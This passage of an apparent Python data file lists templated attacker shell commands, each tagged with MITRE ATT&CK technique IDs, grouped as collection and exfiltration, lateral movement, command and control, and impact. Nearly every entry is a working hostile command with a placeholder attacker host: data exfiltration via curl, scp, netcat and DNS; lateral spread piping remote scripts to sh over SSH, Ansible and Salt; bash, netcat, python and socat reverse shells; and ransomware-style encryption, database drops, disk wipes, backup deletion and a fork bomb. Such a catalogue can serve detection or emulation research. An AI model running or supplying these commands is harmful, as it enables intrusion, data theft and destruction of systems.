T1083 :: ls -la /home/*/
T1074.001 :: mkdir /tmp/.{r}
T1119 :: cp -r /home/*/Documents /tmp/.{r}/
T1560.001 :: tar czf /tmp/.{r}.tgz /tmp/.{r}
T1048 :: scp /tmp/.{r}.tgz {user}@{c2}:/srv/drop/
T1070.004 :: rm -rf /tmp/.{r} /tmp/.{r}.tgz
"""),
("coll-db-dump-curl", "human", """
T1005 :: mysqldump --all-databases -u root -p'{pw}' > /dev/shm/all.sql
T1560.001 :: gzip -9 /dev/shm/all.sql
T1567.002 :: curl -T /dev/shm/all.sql.gz https://transfer.{dom}/all.sql.gz
T1070.004 :: rm -f /dev/shm/all.sql.gz
"""),
("coll-pgdump-split", "human", """
T1005 :: sudo -u postgres pg_dump {db} > /tmp/.{db}.sql
T1560.001 :: zip -e -P {pw} /tmp/.d.zip /tmp/.{db}.sql
T1030 :: split -b 10M /tmp/.d.zip /tmp/.d.part.
T1048.003 :: for f in /tmp/.d.part.*; do curl -s -F "file=@$f" http://{c2}/u; done
T1070.004 :: rm -f /tmp/.d.* /tmp/.{db}.sql
"""),
("coll-nc-exfil", "human", """
T1560.001 :: tar cf - /etc {home} 2>/dev/null | gzip > /tmp/.e.tgz
T1048.003 :: nc {c2} {port} < /tmp/.e.tgz
T1070.004 :: rm /tmp/.e.tgz
"""),
("coll-rclone-cloud", "human", """
T1105,T1105 :: cd /tmp && curl -sO http://{c2}/rclone
T1567.002 :: chmod +x rclone
T1567.002 :: ./rclone config create r mega user {r}@{dom} pass {pw}
T1567.002 :: ./rclone copy {web} r:/{r} --transfers 8 -q
"""),
("coll-dns-exfil", "human", """
T1560.001 :: tar czf /tmp/.x.tgz {home}/.ssh
T1048.003 :: base64 -w0 /tmp/.x.tgz | fold -w 60 | while read l; do dig +short $l.{dom}; done
"""),
("coll-git-repos", "human", """
T1083,T1083 :: find / -name ".git" -type d 2>/dev/null | head -n 20
T1213 :: cd /srv/git/{project}
T1213 :: git log --oneline | head
T1560.001 :: tar czf /tmp/.{project}.tgz /srv/git/{project}
T1041 :: curl -s -F "f=@/tmp/.{project}.tgz" http://{c2}:{port}/up
"""),
("coll-mail-spool", "human", """
T1114.001 :: ls -la /var/mail /var/spool/mail
T1114.001 :: cat /var/mail/{user}
T1560.001 :: tar czf /tmp/.m.tgz /var/mail
T1041 :: curl -s --data-binary @/tmp/.m.tgz http://{c2}/m
"""),
("coll-scp-pull-back", "human", """
T1074.001 :: mkdir -p /dev/shm/.c
T1119,T1119 :: find {home} -name "*.pdf" -o -name "*.docx" | xargs -I{} cp {} /dev/shm/.c/
T1560.001 :: tar czf /dev/shm/c.tgz -C /dev/shm .c
T1048.002 :: scp -P {port} /dev/shm/c.tgz x@{c2}:
"""),
("coll-python-http-exfil", "human", """
T1560.001 :: zip -r /tmp/.w.zip {web}
T1048.003 :: cd /tmp && python3 -m http.server {port}
"""),
# --- 8. Lateral movement ------------------------------------------------------------------------------------------
("lat-ssh-known-hosts", "human", """
T1018 :: cat ~/.ssh/known_hosts
T1018 :: cat ~/.ssh/config
T1021.004 :: ssh -i ~/.ssh/id_rsa {user}@{lan} "hostname; id"
T1570,T1570 :: scp {dir}/{bin} {user}@{lan}:/tmp/ && ssh {user}@{lan} "chmod +x /tmp/{bin}; /tmp/{bin}"
"""),
("lat-ssh-loop-spread", "human", """
T1018 :: grep -oE "([0-9]{1,3}\\.){3}[0-9]{1,3}" ~/.ssh/known_hosts ~/.bash_history | sort -u > /tmp/.h
T1021.004,T1021.004,T1021.004 :: for h in $(cat /tmp/.h); do ssh -oBatchMode=yes -oConnectTimeout=5 -oStrictHostKeyChecking=no $h "curl -s http://{c2}/{script} | sh" & done
"""),
("lat-ssh-agent-hijack", "human", """
T1057 :: ls -la /tmp/ssh-*
T1563.001 :: SSH_AUTH_SOCK=/tmp/ssh-{r}/agent.{pid} ssh-add -l
T1563.001 :: SSH_AUTH_SOCK=/tmp/ssh-{r}/agent.{pid} ssh root@{lan}
"""),
("lat-socat-pivot", "human", """
T1105,T1105 :: cd /tmp; wget -q http://{c2}/socat
T1090.001,T1090.001 :: chmod +x socat; ./socat TCP-LISTEN:{port},fork TCP:{lan}:22 &
T1049 :: ss -ltnp | grep {port}
"""),
("lat-ssh-tunnel", "human", """
T1572 :: ssh -f -N -R {port}:127.0.0.1:22 x@{c2}
T1572 :: ssh -D 1080 -N -f {user}@{lan}
T1090 :: proxychains nmap -sT -Pn -p 445,3389 {lan2}
"""),
("lat-ansible-abuse", "human", """
T1083 :: cat /etc/ansible/hosts
T1072 :: ansible all -m shell -a "id"
T1072 :: ansible all -m shell -a "curl -s http://{c2}/{script} | sh" -b
"""),
("lat-salt-abuse", "human", """
T1072 :: salt-key -L
T1072 :: salt '*' cmd.run 'id'
T1072 :: salt '*' cmd.run 'wget -qO- http://{c2}/{script} | sh'
"""),
# --- 9. Command and control ---------------------------------------------------------------------------------------
("c2-bash-revshell", "human", """
T1059.004 :: bash -i >& /dev/tcp/{c2}/{port} 0>&1
"""),
("c2-nc-mkfifo", "human", """
T1095 :: rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {c2} {port} >/tmp/f
"""),
("c2-python-revshell", "human", """
T1059.006 :: python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("{c2}",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'
"""),
("c2-frp-tunnel", "human", """
T1105,T1105 :: cd {dir}/{hid} && wget -q http://{c2}/frpc.tar.gz
T1140 :: tar xzf frpc.tar.gz
T1572 :: echo -e "[common]\\nserver_addr = {c2}\\nserver_port = 7000\\n[ssh]\\ntype = tcp\\nlocal_port = 22\\nremote_port = {port}" > frpc.ini
T1572 :: nohup ./frpc -c frpc.ini >/dev/null 2>&1 &
"""),
("c2-gsocket", "human", """
T1219 :: bash -c "$(curl -fsSL http://{c2}/gs.sh)"
T1219 :: gs-netcat -s {r2} -l -i
"""),
("c2-ngrok-ssh", "human", """
T1105,T1105 :: cd /tmp && wget -q http://{c2}/ngrok.tgz
T1140 :: tar xzf ngrok.tgz
T1572 :: ./ngrok tcp 22 --authtoken {r2} --log=stdout > /dev/null &
"""),
("c2-socat-tty", "human", """
T1095 :: socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{c2}:{port}
"""),
("c2-http-beacon-loop", "human", """
T1071.001 :: while true; do curl -s http://{c2}/t?h=$(hostname) | sh; sleep 60; done &
"""),
("c2-icmp-tunnel", "human", """
T1105,T1105 :: cd /tmp; wget -q http://{c2}/ptunnel
T1095,T1095 :: chmod +x ptunnel; ./ptunnel -p {c2} -lp 8000 -da 127.0.0.1 -dp 22 &
"""),
# --- 10. Impact --------------------------------------------------------------------------------------------------
("imp-ransom-openssl", "human", """
T1083 :: find {web} -type f | wc -l
T1486 :: find {web} -type f -exec openssl enc -aes-256-cbc -salt -pass pass:{r2} -in {} -out {}.locked \\; -exec rm {} \\;
T1491.001 :: echo "Your files are encrypted. Contact {r}@{dom}" > {web}/README_DECRYPT.txt
"""),
("imp-db-wipe-ransom", "human", """
T1005 :: mysql -u root -p'{pw}' -e "show databases"
T1485 :: mysql -u root -p'{pw}' -e "DROP DATABASE {db};"
T1485 :: mysql -u root -p'{pw}' -e "CREATE DATABASE README_TO_RECOVER; USE README_TO_RECOVER; CREATE TABLE r(t TEXT); INSERT INTO r VALUES('send 0.01 BTC');"
"""),
("imp-disk-wipe", "human", """
T1082 :: lsblk
T1561.001 :: dd if=/dev/zero of=/dev/sda bs=1M count=100
T1485 :: rm -rf --no-preserve-root /
"""),
("imp-service-stop-backups", "human", """
T1489 :: systemctl stop {svc}
T1489,T1489 :: systemctl stop mysql; systemctl stop postgresql
T1490 :: rm -rf /var/backups/*
T1490 :: rm -rf /backup/*
"""),
("imp-esxi-like-encrypt", "human", """
T1489,T1489 :: esxcli vm process list | grep -i world
T1489 :: esxcli vm process kill --type=force --world-id={pid}
T1486 :: for f in /vmfs/volumes/*/*/*.vmdk; do ./enc "$f"; done
T1491.001 :: echo "All your VMs are encrypted" > /etc/motd
"""),
("imp-shutdown-reboot", "human", """
T1529 :: shutdown -r now
"""),
("imp-defacement", "human", """
T1491.002 :: cd {web}
T1491.002 :: cp index.html .index.bak
T1491.002 :: echo "<h1>hacked by {r}</h1>" > index.html
"""),
("imp-fork-dos", "human", """
T1499 :: :(){ :|:& };:
"""),
]
